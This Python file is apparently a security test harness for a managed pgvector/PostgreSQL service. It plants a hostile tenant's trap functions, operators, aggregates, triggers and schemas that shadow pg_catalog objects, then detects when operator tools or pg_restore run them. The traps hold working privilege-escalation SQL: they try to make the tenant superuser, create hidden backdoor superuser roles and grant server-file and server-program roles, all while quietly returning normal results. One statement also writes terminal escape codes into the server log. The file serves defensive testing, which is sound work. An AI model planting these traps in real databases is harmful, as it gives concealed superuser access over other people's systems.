"""What a hostile tenant plants with nothing but its .env, and the witness that watches the operator's tools.

Every trap is SECURITY INVOKER. When it runs in a session that is not purely the tenant's own
(current_user or session_user is someone else) it calls public.hx_fire(code), which
  1. logs (trap, current_user, session_user, is_superuser, backend type) into public.hx_trap_log,
  2. tries ALTER ROLE <tenant> SUPERUSER, CREATE ROLE hx_bd_<code>_<n> SUPERUSER LOGIN and
     GRANT pg_execute_server_program, ... TO <tenant>,
  3. tries RESET ROLE / SET ROLE NONE and, if that made it someone else, the same again,
each inside its own BEGIN/EXCEPTION block, and returns true: the shadowing function or operator then
returns what the pg_catalog one would, so the caller keeps working and nothing looks wrong.
A trap fired in a read-only or aborted transaction cannot log; the backdoor roles and the tenant's
attributes (read as superuser after every command) are what catch an escalation in every case.
In the tenant's own sessions the traps cost one comparison (the guard in each SQL body is inlined).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

import psycopg2
from psycopg2 import sql

# Connection options that no ALTER DATABASE/ROLE ... SET can override: the witness's own superuser
# sessions must never run tenant code (or it would be the one escalating).
# (client_min_messages=error also keeps the warning a bad default_tablespace raises at login off the terminal)
PINNED = ("-c search_path=pg_catalog,pg_temp -c role=none -c statement_timeout=0 -c lock_timeout=0 -c idle_session_timeout=0 "
          "-c idle_in_transaction_session_timeout=0 -c default_transaction_read_only=off -c client_min_messages=error")
DANGEROUS = ("rolsuper", "rolcreaterole", "rolcreatedb", "rolreplication", "rolbypassrls")
GRANTED = ("pg_execute_server_program", "pg_read_server_files", "pg_write_server_files")
SEARCH_PATHS = ("public, pg_catalog", '"$user", public')  # the tenant cycles through these between commands


def tenant_connect(env: dict, **overrides):
    from agency_pgvector.sessions import tenant_params

    params = tenant_params(env)  # a cluster's .env: the member that takes writes (the first listed may be a standby)
    params.update(overrides)
    conn = psycopg2.connect(connect_timeout=5, **params)
    conn.autocommit = True
    return conn


def superuser_connect(params: dict, dbname: str = "postgres"):
    """The witness's superuser session: the engine's admin login with every tenant-settable knob pinned."""
    params = {**params, "dbname": dbname}
    params["options"] = (params.get("options", "") + " " + PINNED).strip()
    params.pop("application_name", None)
    conn = psycopg2.connect(connect_timeout=10, application_name="hx-witness", **params)
    conn.autocommit = True
    return conn


# -- the battery --------------------------------------------------------------------------------------

@dataclass
class Battery:
    tenant: str
    traps: dict = field(default_factory=dict)  # code -> what the trap shadows or where it sits
    statements: list = field(default_factory=list)
    writable: list = field(default_factory=list)  # schemas not its own where the tenant could plant too

    def code(self, what: str) -> str:
        code = f"t{len(self.traps):02d}"
        self.traps[code] = what
        return code

    @property
    def guard(self) -> str:
        """True in the tenant's own sessions (the trap stays silent) or once the trap fired in this session."""
        who = literal(self.tenant)
        return (f"(current_user OPERATOR(pg_catalog.=) {who}::pg_catalog.name"
                f" AND session_user OPERATOR(pg_catalog.=) {who}::pg_catalog.name)")

    def body(self, code: str, real: str) -> str:
        fired = f"pg_catalog.current_setting('hx.fired_{code}', true) IS NOT NULL"
        return f"SELECT CASE WHEN {self.guard} OR {fired} THEN {real} WHEN public.hx_fire('{code}') THEN {real} ELSE {real} END"

    def function(self, schema: str, name: str, args: str, returns: str, real: str, volatility: str = "VOLATILE") -> str:
        """A shadow of pg_catalog.<name>(args) in `schema` that fires, then answers as the real one."""
        code = self.code(f"function {schema}.{name}({args})")
        self.statements.append(f"CREATE FUNCTION {schema}.{name}({args}) RETURNS {returns} "
                               f"LANGUAGE sql {volatility} AS $hx${self.body(code, real)}$hx$")
        return code

    def operator(self, schema: str, op: str, left: str, right: str, returns: str, real: str) -> None:
        code = self.code(f"operator {schema}.{op}({left}, {right})")
        fn = f"{schema}.hx_op_{code}"
        self.statements.append(f"CREATE FUNCTION {fn}({left}, {right}) RETURNS {returns} "
                               f"LANGUAGE sql VOLATILE AS $hx${self.body(code, real)}$hx$")
        self.statements.append(f"CREATE OPERATOR {schema}.{op} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = {fn})")

    def aggregate(self, schema: str, name: str, args: str, stype: str, step: str, initcond: str | None, strict: bool) -> None:
        """An aggregate shadow; its transition function is the trap (`step` computes the next state)."""
        code = self.code(f"aggregate {schema}.{name}({args})")
        fn = f"{schema}.hx_agg_{code}"
        inputs = stype if args == "*" else f"{stype}, {args}"
        self.statements.append(f"CREATE FUNCTION {fn}({inputs}) RETURNS {stype} LANGUAGE sql VOLATILE "
                               f"{'STRICT' if strict else ''} AS $hx${self.body(code, step)}$hx$")
        init = f", INITCOND = '{initcond}'" if initcond is not None else ""
        self.statements.append(f"CREATE AGGREGATE {schema}.{name}({args}) (SFUNC = {fn}, STYPE = {stype}{init})")


def literal(name: str) -> str:
    """A role name as an SQL literal (tenant roles are [a-z0-9_] only)."""
    assert re.fullmatch(r"[a-z0-9_]+", name), name
    return f"'{name}'"


FIRE = """
CREATE TABLE public.hx_trap_log (
  at timestamptz DEFAULT pg_catalog.clock_timestamp(), trap text, cur text, sess text, superuser text,
  backend text, app text, stage text, got text, reset_error text)
;
CREATE FUNCTION public.hx_try(stmt text) RETURNS text LANGUAGE plpgsql VOLATILE AS $hx$
BEGIN
  EXECUTE stmt;
  RETURN NULL;
EXCEPTION WHEN OTHERS THEN
  RETURN SQLERRM;
END $hx$
;
CREATE FUNCTION public.hx_escalate(tag text) RETURNS text LANGUAGE plpgsql VOLATILE AS $hx$
DECLARE got text := '';
BEGIN
  IF public.hx_try(pg_catalog.format('ALTER ROLE %I SUPERUSER', {tenant})) IS NULL
    THEN got := pg_catalog.concat(got, ' ALTER-ROLE-SUPERUSER'); END IF;
  IF public.hx_try(pg_catalog.format('CREATE ROLE %I SUPERUSER LOGIN', tag)) IS NULL
    THEN got := pg_catalog.concat(got, ' CREATE-ROLE-', tag); END IF;
  IF public.hx_try(pg_catalog.format('GRANT pg_execute_server_program, pg_read_server_files, pg_write_server_files TO %I',
                                     {tenant})) IS NULL
    THEN got := pg_catalog.concat(got, ' GRANT-SERVER-FILES'); END IF;
  RETURN got;
END $hx$
;
CREATE FUNCTION public.hx_log(code text, stage text, got text, reset_error text) RETURNS void LANGUAGE plpgsql VOLATILE AS $hx$
BEGIN
  INSERT INTO public.hx_trap_log (trap, cur, sess, superuser, backend, app, stage, got, reset_error)
  SELECT code, current_user, session_user, pg_catalog.current_setting('is_superuser'), a.backend_type, a.application_name,
         stage, got, reset_error
  FROM (SELECT 1) AS one LEFT JOIN pg_catalog.pg_stat_activity AS a ON a.pid OPERATOR(pg_catalog.=) pg_catalog.pg_backend_pid();
EXCEPTION WHEN OTHERS THEN
  NULL;  -- read-only or aborted transaction: the role checks still see what happened
END $hx$
;
CREATE FUNCTION public.hx_fire(code text) RETURNS boolean LANGUAGE plpgsql VOLATILE AS $hx$
DECLARE
  tag text := pg_catalog.concat('hx_bd_', code, '_',
                                pg_catalog.substr(pg_catalog.md5(pg_catalog.random()::pg_catalog.text), 1, 6));
  got text;
  reset_error text;
BEGIN
  IF current_user OPERATOR(pg_catalog.=) {tenant}::pg_catalog.name
     AND session_user OPERATOR(pg_catalog.=) {tenant}::pg_catalog.name THEN
    RETURN true;
  END IF;
  PERFORM pg_catalog.set_config(pg_catalog.concat('hx.fired_', code), 'on', false);  -- once per session and trap
  got := public.hx_escalate(tag);
  PERFORM public.hx_log(code, 'fired', got, NULL);
  IF pg_catalog.current_setting('is_superuser') OPERATOR(pg_catalog.<>) 'on' THEN
    reset_error := public.hx_try('RESET ROLE');
    IF reset_error IS NULL AND current_user OPERATOR(pg_catalog.=) {tenant}::pg_catalog.name THEN
      reset_error := public.hx_try('SET ROLE NONE');
    END IF;
    IF current_user OPERATOR(pg_catalog.<>) {tenant}::pg_catalog.name THEN
      got := public.hx_escalate(pg_catalog.concat(tag, 'r'));
    END IF;
    PERFORM public.hx_log(code, 'after RESET ROLE', got, reset_error);
  END IF;
  RETURN true;
END $hx$
"""

BOOL_OPS = {  # operator -> (left, right, the catalog operator it shadows)
    "=": [("name", "name"), ("oid", "oid"), ("text", "text"), ("name", "text")],
    "<>": [("name", "name"), ("oid", "oid")],
    "~~": [("name", "text"), ("text", "text")],
    "!~~": [("name", "text"), ("text", "text")],
}


def shadows(b: Battery, schema: str) -> None:
    """Functions, operators and aggregates in `schema` that shadow pg_catalog's: loose signatures win even
    behind pg_catalog; exact ones win once `schema` comes first in the search_path."""
    f = b.function
    # loose: an unknown literal prefers text to name; an exact non-polymorphic type beats anyarray/"any"
    f(schema, "has_schema_privilege", "text, oid, text", "boolean",
      "pg_catalog.has_schema_privilege($1::pg_catalog.name, $2, $3)")
    f(schema, "has_database_privilege", "text, oid, text", "boolean",
      "pg_catalog.has_database_privilege($1::pg_catalog.name, $2, $3)")
    f(schema, "has_table_privilege", "text, oid, text", "boolean", "pg_catalog.has_table_privilege($1::pg_catalog.name, $2, $3)")
    f(schema, "has_schema_privilege", "text, text, text", "boolean",
      "pg_catalog.has_schema_privilege($1::pg_catalog.name, $2, $3)")
    f(schema, "lower", "name", "text", "pg_catalog.lower($1::pg_catalog.text)")
    f(schema, "length", "name", "integer", "pg_catalog.length($1::pg_catalog.text)")
    f(schema, "quote_ident", "name", "text", "pg_catalog.quote_ident($1::pg_catalog.text)")
    f(schema, "starts_with", "name, text", "boolean", "pg_catalog.starts_with($1::pg_catalog.text, $2)")
    f(schema, "split_part", "name, text, integer", "text", "pg_catalog.split_part($1::pg_catalog.text, $2, $3)")
    # exact signatures (win with the schema first)
    f(schema, "has_schema_privilege", "name, oid, text", "boolean", "pg_catalog.has_schema_privilege($1, $2, $3)")
    f(schema, "has_schema_privilege", "oid, text", "boolean", "pg_catalog.has_schema_privilege($1, $2)")
    f(schema, "has_database_privilege", "name, oid, text", "boolean", "pg_catalog.has_database_privilege($1, $2, $3)")
    f(schema, "current_database", "", "name", "pg_catalog.current_database()")
    f(schema, "version", "", "text", "pg_catalog.version()")
    f(schema, "format_type", "oid, integer", "text", "pg_catalog.format_type($1, $2)")
    f(schema, "pg_get_userbyid", "oid", "name", "pg_catalog.pg_get_userbyid($1)")
    f(schema, "current_setting", "text", "text", "pg_catalog.current_setting($1)")
    f(schema, "current_setting", "text, boolean", "text", "pg_catalog.current_setting($1, $2)")
    f(schema, "pg_database_size", "name", "bigint", "pg_catalog.pg_database_size($1)")
    f(schema, "pg_database_size", "oid", "bigint", "pg_catalog.pg_database_size($1)")
    f(schema, "pg_terminate_backend", "integer", "boolean", "pg_catalog.pg_terminate_backend($1)")
    f(schema, "pg_backend_pid", "", "integer", "pg_catalog.pg_backend_pid()")
    f(schema, "pg_size_pretty", "bigint", "text", "pg_catalog.pg_size_pretty($1)")
    f(schema, "pg_is_in_recovery", "", "boolean", "pg_catalog.pg_is_in_recovery()")
    f(schema, "quote_ident", "text", "text", "pg_catalog.quote_ident($1)")
    f(schema, "pg_encoding_to_char", "integer", "name", "pg_catalog.pg_encoding_to_char($1)")
    code = b.code(f"function {schema}.unnest(text[])")
    b.statements.append(f"CREATE FUNCTION {schema}.unnest(text[]) RETURNS SETOF text LANGUAGE sql VOLATILE AS $hx$"
                        f"SELECT u FROM pg_catalog.unnest($1) AS u WHERE {b.guard} OR public.hx_fire('{code}')$hx$")
    for op, pairs in BOOL_OPS.items():
        for left, right in pairs:
            b.operator(schema, op, left, right, "boolean", f"$1 OPERATOR(pg_catalog.{op}) $2")
    b.operator(schema, "||", "name", "text", "text", "$1::pg_catalog.text OPERATOR(pg_catalog.||) $2")
    b.operator(schema, "||", "name", "name", "text", "$1::pg_catalog.text OPERATOR(pg_catalog.||) $2::pg_catalog.text")
    plus_one = "$1 OPERATOR(pg_catalog.+) 1"
    b.aggregate(schema, "count", "*", "bigint", plus_one, "0", strict=False)
    for kind in ("boolean", "integer", "oid", "text", "name"):  # exact types beat count("any") from behind
        b.aggregate(schema, "count", kind, "bigint", plus_one, "0", strict=True)
    agg = ("CASE WHEN $2 IS NULL THEN $1 WHEN $1 IS NULL THEN $2 "
           "ELSE $1 OPERATOR(pg_catalog.||) $3 OPERATOR(pg_catalog.||) $2 END")
    b.aggregate(schema, "string_agg", "text, text", "text", agg, None, strict=False)


def table_traps(b: Battery) -> None:
    """Tables whose CHECK, DEFAULT, domain, generated column, index expression, trigger, view and
    materialized view call traps: pg_restore evaluates several of them while it loads the data."""
    s = b.statements
    for name, what, volatility in (("hx_check", "CHECK constraint", "VOLATILE"),
                                   ("hx_domain_check", "domain CHECK", "VOLATILE"),
                                   ("hx_index_expr", "index expression", "IMMUTABLE"),
                                   ("hx_generated", "generated column", "IMMUTABLE"),
                                   ("hx_default", "column DEFAULT", "VOLATILE"),
                                   ("hx_view_fn", "view", "VOLATILE"),
                                   ("hx_matview_fn", "materialized view", "VOLATILE")):
        code = b.code(what)
        s.append(f"CREATE FUNCTION public.{name}(v text) RETURNS text LANGUAGE sql {volatility} AS $hx${b.body(code, '$1')}$hx$")
    code = b.code("trigger")
    s.append(f"""CREATE FUNCTION public.hx_trigger() RETURNS trigger LANGUAGE plpgsql AS $hx$
BEGIN PERFORM public.hx_fire('{code}'); RETURN COALESCE(NEW, OLD); END $hx$""")
    s += [
        "CREATE TABLE public.hx_checked (id int PRIMARY KEY, v text CHECK (public.hx_check(v) IS NOT NULL))",
        "INSERT INTO public.hx_checked SELECT i, 'row ' || i FROM generate_series(1, 3) i",
        "CREATE DOMAIN public.hx_domain AS text CHECK (public.hx_domain_check(VALUE) IS NOT NULL)",
        "CREATE TABLE public.hx_domained (id int PRIMARY KEY, v public.hx_domain)",
        "INSERT INTO public.hx_domained SELECT i, 'row ' || i FROM generate_series(1, 3) i",
        ("CREATE TABLE public.hx_generated_t (id int PRIMARY KEY, v text, "
         "g text GENERATED ALWAYS AS (public.hx_generated(v)) STORED)"),
        "INSERT INTO public.hx_generated_t (id, v) SELECT i, 'row ' || i FROM generate_series(1, 3) i",
        "CREATE TABLE public.hx_indexed (id int PRIMARY KEY, v text)",
        "INSERT INTO public.hx_indexed SELECT i, 'row ' || i FROM generate_series(1, 3) i",
        "CREATE INDEX hx_indexed_expr ON public.hx_indexed ((public.hx_index_expr(v)))",
        "CREATE TABLE public.hx_defaulted (id int PRIMARY KEY, v text DEFAULT public.hx_default('x'))",
        "INSERT INTO public.hx_defaulted (id) SELECT i FROM generate_series(1, 3) i",
        "CREATE TABLE public.hx_triggered (id int PRIMARY KEY, v text)",
        "INSERT INTO public.hx_triggered SELECT i, 'row ' || i FROM generate_series(1, 3) i",
        ("CREATE TRIGGER hx_row BEFORE INSERT OR UPDATE OR DELETE ON "
         "public.hx_triggered FOR EACH ROW EXECUTE FUNCTION public.hx_trigger()"),
        "CREATE TRIGGER hx_truncate BEFORE TRUNCATE ON public.hx_triggered EXECUTE FUNCTION public.hx_trigger()",
        "CREATE VIEW public.hx_view AS SELECT public.hx_view_fn('x') AS v",
        "CREATE MATERIALIZED VIEW public.hx_matview AS SELECT public.hx_matview_fn('x') AS v",
        # an ordinary vector table with an HNSW index, types and opclass unqualified as tenants write them
        "CREATE TABLE public.hx_items (id int PRIMARY KEY, embedding vector(3))",
        "INSERT INTO public.hx_items SELECT i, ARRAY[i, i % 7, 1]::vector FROM generate_series(1, 100) i",
        "CREATE INDEX hx_items_hnsw ON public.hx_items USING hnsw (embedding vector_l2_ops)",
    ]


def plant(env: dict, log_marker: str) -> Battery:
    """Plant the whole battery as the tenant (its .env only). Returns the traps by code."""
    b = Battery(env["PGUSER"])
    conn = tenant_connect(env)
    with conn.cursor() as cur:
        b.statements.append(FIRE.replace("{tenant}", literal(b.tenant)))
        shadows(b, "public")
        # "$user" comes first in the default search_path: a schema named after each superuser is first
        # for that superuser's sessions (the tenant reads the names from pg_roles)
        cur.execute("SELECT rolname FROM pg_catalog.pg_roles WHERE rolsuper ORDER BY 1")
        planted = ["public", *(name for (name,) in cur.fetchall())]
        for name in planted[1:]:
            schema = sql.Identifier(name).as_string(conn)
            b.statements.append(f"CREATE SCHEMA {schema}")
            shadows(b, schema)
        table_traps(b)
        for statement in b.statements:
            for part in statement.split("\n;\n"):
                cur.execute(part)
        # where installers like to keep extensions (Supabase: `extensions`): take it if nobody has yet
        cur.execute("SELECT pg_catalog.to_regnamespace('extensions') IS NULL")
        if cur.fetchone()[0]:
            cur.execute("CREATE SCHEMA extensions")
        # every other schema the tenant may create in, the extension's own included if it is writable
        cur.execute("""SELECT n.nspname FROM pg_catalog.pg_namespace n
                       WHERE pg_catalog.has_schema_privilege(n.oid, 'CREATE') AND n.nspname <> ALL(%s)
                         AND n.nspname !~ '^pg_' AND n.nspname <> 'information_schema'""", (planted,))
        b.writable = [name for (name,) in cur.fetchall()]
        for name in b.writable:
            extra = Battery(b.tenant, b.traps)
            shadows(extra, sql.Identifier(name).as_string(conn))
            for statement in extra.statements:
                cur.execute(statement)
        # a message with terminal escape codes in the server log, and a marker no neighbour may read
        cur.execute("DO $hx$ BEGIN RAISE WARNING '%', pg_catalog.concat(pg_catalog.chr(27), '[2J', "
                    f"pg_catalog.chr(27), ']0;owned', pg_catalog.chr(7), ' {log_marker}'); END $hx$")
        cur.execute("SELECT count(*) FROM hx_items WHERE embedding <-> '[1,1,1]' < 1000")
        assert cur.fetchone()[0] == 100, "the tenant's own unqualified vector query must keep working"
    conn.close()
    return b


def set_search_path(env: dict, variant: str) -> None:
    """The tenant re-asserts its database's search_path (a re-install may have reset it)."""
    conn = tenant_connect(env)
    with conn.cursor() as cur:
        cur.execute(sql.SQL("ALTER DATABASE {} SET search_path = " + variant).format(sql.Identifier(env["PGDATABASE"])))
    conn.close()


# -- the witness ------------------------------------------------------------------------------------------

def roles(params: dict) -> dict:
    """rolname -> (dangerous attributes, server-file roles it is a member of), read as superuser."""
    conn = superuser_connect(params)
    with conn.cursor() as cur:
        cur.execute(f"SELECT rolname, {', '.join(DANGEROUS)} FROM pg_catalog.pg_roles")
        found = {name: ({k for k, v in zip(DANGEROUS, flags, strict=True) if v}, set()) for name, *flags in cur.fetchall()}
        cur.execute("""SELECT m.rolname, g.rolname FROM pg_catalog.pg_auth_members a
                       JOIN pg_catalog.pg_roles m ON m.oid OPERATOR(pg_catalog.=) a.member
                       JOIN pg_catalog.pg_roles g ON g.oid OPERATOR(pg_catalog.=) a.roleid""")
        for member, group in cur.fetchall():
            if member in found:
                found[member][1].add(group)
    conn.close()
    return found


def trap_rows(params: dict, dbname: str) -> list[dict]:
    """Read and clear the trap log in `dbname` (a restore would replace it with the backup's copy)."""
    conn = superuser_connect(params)
    with conn.cursor() as cur:
        cur.execute("SELECT datallowconn FROM pg_catalog.pg_database WHERE datname OPERATOR(pg_catalog.=) %s", (dbname,))
        found = cur.fetchone()
    conn.close()
    if not found or not found[0]:
        return []
    conn = superuser_connect(params, dbname)
    try:
        with conn.cursor() as cur:
            cur.execute("SELECT pg_catalog.to_regclass('public.hx_trap_log') IS NOT NULL")
            if not cur.fetchone()[0]:
                return []
            cur.execute("SELECT trap, cur, sess, superuser, backend, app, stage, "
                        "got, reset_error FROM public.hx_trap_log ORDER BY at")
            names = [d.name for d in cur.description]
            rows = [dict(zip(names, row, strict=True)) for row in cur.fetchall()]
            cur.execute("DELETE FROM public.hx_trap_log")
        return rows
    finally:
        conn.close()


@dataclass
class Witness:
    """After each command: new trap-log rows, new roles, changed attributes, each tagged with the command."""

    servers: dict  # name -> superuser connection params (libpq keywords)
    tenant_roles: dict  # server name -> the hostile tenant's role there
    hostile_dbs: dict  # server name -> the hostile tenant's database
    traps: dict = field(default_factory=dict)
    before: dict = field(default_factory=dict)
    last: dict = field(default_factory=dict)
    findings: list = field(default_factory=list)
    notes: list = field(default_factory=list)

    def start(self) -> None:
        self.before = {name: roles(params) for name, params in self.servers.items()}
        self.last = {name: dict(found) for name, found in self.before.items()}

    def after(self, command: str) -> None:
        for name, params in self.servers.items():
            tenant = self.tenant_roles.get(name)
            fired: dict = {}  # (as whom) -> trap descriptions, in firing order
            for row in trap_rows(params, self.hostile_dbs[name]) if name in self.hostile_dbs else []:
                trap = f"{row['trap']} {self.traps.get(row['trap'], '?')}"
                restricted = row["cur"] == tenant and "security-restricted" in (row["reset_error"] or "")
                if row["backend"] == "autovacuum worker" or restricted:  # PostgreSQL's own restricted execution
                    self.notes.append(f"{command}: {trap} as {row['cur']} ({row['backend']})")
                elif row["cur"] != tenant or row["sess"] != tenant:
                    whom = (f"current_user={row['cur']} session_user={row['sess']} superuser={row['superuser']} "
                            f"({row['stage']}; {row['backend']} {row['app']!r})")
                    fired.setdefault(whom, [])
                    if trap not in fired[whom]:
                        fired[whom].append(trap)
            for whom, traps in fired.items():
                self.findings.append(f"{command}: planted code ran as {whom}: {'; '.join(traps)}")
            now = roles(params)
            backdoors = sorted(r for r in now if r.startswith("hx_bd_") and r not in self.last[name])
            if backdoors:
                traps = sorted({self.traps.get(r.split("_")[2], "?") for r in backdoors})
                self.findings.append(f"{command}: {len(backdoors)} superuser backdoor "
                                     f"roles created on {name} by: {'; '.join(traps)}")
            for role, (attrs, groups) in now.items():
                if role.startswith("hx_bd_"):
                    continue
                old_attrs, old_groups = self.last[name].get(role) or self.before[name].get(role) or (set(), set())
                gained = (attrs | (groups & set(GRANTED))) - (old_attrs | old_groups)
                if gained:
                    self.findings.append(f"{command}: role {role} on {name} gained {', '.join(sorted(gained))}")
            self.last[name] = now

    def superusers(self, name: str, found: dict | None = None) -> set:
        found = self.before[name] if found is None else found
        return {role for role, (attrs, _) in found.items() if "rolsuper" in attrs}

    def tenant_is_clean(self) -> list:
        """The hostile tenant's role, wherever it still exists: no dangerous attribute, no server-file role."""
        bad = []
        for name, tenant in self.tenant_roles.items():
            attrs, groups = roles(self.servers[name]).get(tenant, (set(), set()))
            if attrs or groups & set(GRANTED):
                bad.append(f"tenant role {tenant} on {name} has {', '.join(sorted(attrs | (groups & set(GRANTED))))}")
        return bad

OLDER = "0.7.4"
ADDED_IN_080 = ("integer[]", "real[]", "double precision[]", "numeric[]")  # vector--0.7.4--0.8.0.sql adds these casts


def make_extension_older(params: dict, dbname: str) -> str:
    """Turn the database's vector 0.8.x into a faithful 0.7.4 (the wheel ships no 0.7.4 install script,
    only the update scripts): remove what vector--0.7.4--0.8.0.sql adds and record 0.7.4, so the
    upgrade runs that real script. Returns the extension's schema."""
    conn = superuser_connect(params, dbname)
    with conn.cursor() as cur:
        cur.execute("SELECT n.nspname, e.extversion FROM pg_catalog.pg_extension e JOIN pg_catalog.pg_namespace n "
                    "ON n.oid OPERATOR(pg_catalog.=) e.extnamespace WHERE e.extname OPERATOR(pg_catalog.=) 'vector'")
        schema, version = cur.fetchone()
        assert version.startswith("0.8."), version
        sparsevec = sql.SQL("{}.sparsevec").format(sql.Identifier(schema))
        fn = sql.SQL("{}.array_to_sparsevec").format(sql.Identifier(schema))
        for kind in ADDED_IN_080:
            cast = sql.SQL("CAST ({} AS {})").format(sql.SQL(kind), sparsevec)
            func = sql.SQL("FUNCTION {}({}, integer, boolean)").format(fn, sql.SQL(kind))
            for member in (cast, func):
                cur.execute(sql.SQL("ALTER EXTENSION vector DROP {}").format(member))
                cur.execute(sql.SQL("DROP {}").format(member))
        cur.execute("UPDATE pg_catalog.pg_extension SET extversion = %s WHERE extname OPERATOR(pg_catalog.=) 'vector'", (OLDER,))
    conn.close()
    return schema
